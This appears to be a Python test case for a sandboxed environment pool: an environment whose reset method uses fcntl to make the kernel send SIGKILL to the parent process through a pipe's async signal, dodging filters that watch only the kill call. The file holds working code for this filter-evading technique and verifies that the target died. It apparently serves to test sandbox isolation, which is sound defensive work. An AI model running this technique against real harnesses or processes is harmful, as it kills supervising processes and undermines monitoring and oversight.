"""Attack: make the kernel, not the worker, send SIGKILL to another process: set the target as the
owner of a pipe with ``F_SETOWN``, ``F_SETSIG`` to SIGKILL and ``O_ASYNC``, then make the pipe
readable. No ``kill`` system call is made, so a filter on ``kill`` alone misses it. Stopped by
Landlock signal scoping (and, for a pool started as root, the uid drop).

The attack checks its effect: ``getpriority`` on a pid that is gone fails with ESRCH.
"""

import fcntl
import os
import signal
import time

F_SETSIG = getattr(fcntl, "F_SETSIG", 10)


class SigioEnv:
    def __init__(self, max_turns=5, target=0):
        self.target = target

    def reset(self, seed=None):
        target = self.target or os.getppid()
        read_end, write_end = os.pipe()
        fcntl.fcntl(read_end, fcntl.F_SETOWN, target)
        fcntl.fcntl(read_end, F_SETSIG, int(signal.SIGKILL))
        fcntl.fcntl(read_end, fcntl.F_SETFL, fcntl.fcntl(read_end, fcntl.F_GETFL) | os.O_ASYNC)
        os.write(write_end, b"!")
        time.sleep(0.3)
        try:
            os.getpriority(os.PRIO_PROCESS, target)
        except ProcessLookupError:
            return "Say anything.", {}
        raise RuntimeError(f"the signal did not reach pid {target}: it is still alive")

    def step(self, action):
        return "done", 1.0, True, False, {}

    def solution(self):
        return "anything"
